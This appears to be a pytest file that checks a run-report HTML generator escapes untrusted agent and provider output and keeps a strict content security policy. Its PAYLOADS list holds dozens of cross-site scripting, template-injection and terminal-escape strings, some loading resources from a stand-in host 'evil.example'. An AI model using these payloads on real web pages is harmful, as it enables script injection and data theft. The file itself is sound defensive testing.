"""The page is inert whatever agents, providers or a shared run folder write into it."""

import base64
import hashlib
import re
import runpy
from dataclasses import replace
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path
from types import SimpleNamespace

import pytest

from claw_adapter.errors import Owner
from claw_adapter.protocol import Failure, RunSettings, Score
from claw_adapter.report import summarise, write_html
from claw_adapter.report.html import page
from claw_adapter.runs.load import load_run

make = SimpleNamespace(**runpy.run_path(str(Path(__file__).parents[1] / "unit" / "report_runs.py")))

PAYLOADS = (
    "<script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></details></article></main><script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=http://evil.example/></object>",
    "<embed src=http://evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<form action=http://evil.example><input name=x autofocus onfocus=alert(1)></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<div style='background:url(http://evil.example/x)'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\x00script>alert(1)</script>",
    "{{ 7*7 }}{% for x in () %}{{ cycler.__init__.__globals__ }}{% endfor %}",
    "{%- raw %}</pre><script>alert(1)</script>{% endraw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07<b>",
    "\x1b[31m<script>\x1b[0malert(1)</script>",
    "\u202etpircs\u202c<script>\u2066alert(1)\u2069</script>",
    "\udc3cscript\udc3e",
    "javascript:alert(1)//",
    "<plaintext>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "\\u003cscript\\u003ealert(1)",
    "<p>" * 200 + "<script>alert(1)</script>",
)
TAGS = """html head meta title style body header main section h1 h2 h3 h4 p dl dt dd div table caption thead tbody tr th td
svg rect line circle polygon polyline path text desc figure figcaption
span strong code ul ol li a pre details summary article label select option input button script"""
ATTRIBUTES = """lang charset http-equiv content name class id aria-labelledby aria-label role scope href title hidden value
type data-scenario data-differs data-trouble viewbox width height x x1 x2 y y1 y2 rx r cx cy d
points text-anchor tabindex aria-hidden"""
VOID = {"meta", "input"}


class Page(HTMLParser):
    """Everything that could be alive in a page, and whether its tags are nested as they were written."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.hrefs, self.ids, self.stack = set(), set(), [], [], []
        self.problems, self.scripts, self.styles, self.texts, self.policy = [], [], [], [], ""
        self.feed(text)
        self.close()
        self.problems += [f"{tag} is never closed" for tag in self.stack]

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        values = dict(attrs)
        self.hrefs += [values["href"]] if "href" in values else []
        self.ids += [values["id"]] if "id" in values else []
        if values.get("http-equiv"):
            self.policy += values["content"]
        if tag in ("script", "style"):
            (self.scripts if tag == "script" else self.styles).append("")
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if not self.stack or self.stack.pop() != tag:
            self.problems.append(f"stray </{tag}>")

    def handle_data(self, data):
        inside = self.stack[-1] if self.stack else ""
        if inside in ("script", "style"):
            (self.scripts if inside == "script" else self.styles)[-1] += data
        else:
            self.texts.append(data)

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data):
        self.problems.append(f"instruction {data!r}")


def asset(name):
    return resources.files("claw_adapter.report").joinpath("templates", name).read_text("utf-8").strip()


def assert_inert(text):
    found = Page(text)
    assert found.problems == []
    assert found.tags <= set(TAGS.split())
    assert found.attributes <= set(ATTRIBUTES.split())
    assert found.scripts == [asset("script.js")]
    assert found.styles == [asset("style.css")]
    assert "url(" not in found.styles[0]
    assert "@import" not in found.styles[0]
    assert all(re.fullmatch(r"#r\d+(t\d+)?", href) for href in found.hrefs)
    assert {href[1:] for href in found.hrefs} <= set(found.ids)
    assert len(set(found.ids)) == len(found.ids)
    assert found.policy.count("default-src 'none'") == 1
    return found


def poisoned(root, payload):
    """A run with the payload in every place that is not checked by a record, and in the harness label besides."""
    fault = Failure(owner=Owner.HARNESS, kind=payload, what=payload, where=payload, remedy=payload)
    model = make.ModelSpec(name=payload, kind="scripted", params={payload: payload})
    settings = RunSettings(compat=payload)
    trial = make.spec("demo", "h", model=model, overlays=(payload,), name=payload, settings=settings)
    trial = trial.model_copy(update={"id": "t", "scenario": payload})
    runs = make.Runs(root, [trial], {payload: 3})
    calls = [
        {"kind": "tool_call", "id": payload, "name": payload, "arguments": {payload: [payload]}},
        {"kind": "tool_result", "id": payload, "name": payload, "text": payload, "is_error": True},
        {"kind": "note", "name": payload, "text": payload},
        {"kind": "tool_result", "id": "lost", "text": payload},
    ]
    bad = Failure(owner=Owner.ENDPOINT, kind=payload, what=payload)
    rounds = [
        runs.record(
            0,
            0.0,
            kind=payload,
            round=payload,
            prompt=f"Which?\n\nA. {payload}\nB. {payload}",
            text=payload,
            score=Score(
                value=0.0, answer=(payload,), malformed=payload, detail={payload: payload, "x": {"A": payload}}
            ),
            feedback=payload,
            taught={payload: False},
            updates=(payload,),
            evidence=make.seen([payload], [payload], **{"A": "hasty", payload: "supported"}),
            attempts=2,
            earlier_failures=(fault,),
            events=calls,
            usage=make.Usage(metered=make.Metered(asked={payload: payload})),
            snapshot=runs.snapshot(a__txt="before"),
        ),
        runs.record(1, None, cause=bad, snapshot=runs.snapshot(a__txt=payload.encode("utf-8", "replace").decode())),
    ]
    runs.write(trial, rounds, end=fault, versions={payload: payload}, notes=(payload,), harness=payload)
    return runs


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_nothing_written_by_others_becomes_markup(tmp_path, payload):
    payload = payload.encode("utf-8", "backslashreplace").decode() if "\udc3c" in payload else payload
    run = load_run(poisoned(tmp_path / "run", payload).root)
    specs = [
        t.spec.model_copy(update={"harness": t.spec.harness.model_copy(update={"label": payload})}) for t in run.trials
    ]
    run = replace(run, trials=tuple(replace(t, spec=s) for t, s in zip(run.trials, specs, strict=True)))
    summary = summarise(run)
    assert summary.rows[0].label.startswith(payload)
    text = page(run, summary, fragments={payload: {payload: payload}})
    found = assert_inert(text)
    assert "\x1b" not in text
    if payload.isascii() and payload.isprintable():
        assert found.texts.count(payload) >= 5  # shown as it is, not lost


def test_the_policy_allows_our_script_and_style_only(tmp_path):
    run = load_run(make.small(tmp_path / "run").root)
    found = assert_inert(page(run, summarise(run)))
    for text in (found.scripts[0], found.styles[0]):
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in found.policy
    assert "unsafe" not in found.policy


def test_the_check_for_inertness_can_fail(tmp_path):
    run = load_run(make.small(tmp_path / "run").root)
    text = page(run, summarise(run))
    for evil in (
        "<script>1</script>",
        "<p onclick='x'>y</p>",
        "<a href='http://x'>y</a>",
        "</div>",
        "<img src=x>",
        "<!-- x -->",
    ):
        with pytest.raises(AssertionError):
            assert_inert(text.replace("<main>", f"<main>{evil}"))


def test_a_file_name_that_is_no_unicode_can_be_shown(tmp_path):
    trial = make.spec("demo", "reference")
    runs = make.Runs(tmp_path / "run", [trial], {"demo": 2})
    first = runs.record(0, 1.0)
    (runs.work / "bad\udcff<b>\u202e.txt").write_text("x")
    second = runs.record(1, 1.0, snapshot=runs.snapshots.take(runs.work))
    runs.write(trial, [first, second])
    run = load_run(runs.root)
    write_html(run, summarise(run), tmp_path / "report.html")
    found = assert_inert((tmp_path / "report.html").read_text("utf-8"))
    assert "bad\ufffd<b>⟦U+202E⟧.txt" in found.texts


def test_a_link_in_a_workspace_is_named_and_never_followed(tmp_path):
    (tmp_path / "secret.txt").write_text("a secret of this machine")
    trial = make.spec("demo", "reference")
    runs = make.Runs(tmp_path / "run", [trial], {"demo": 2})
    first = runs.record(0, 1.0)
    (runs.work / "link.txt").symlink_to(tmp_path / "secret.txt")
    runs.write(trial, [first, runs.record(1, 1.0, snapshot=runs.snapshots.take(runs.work))])
    run = load_run(runs.root)
    text = page(run, summarise(run))
    assert "link.txt" in text
    assert "a secret of this machine" not in text
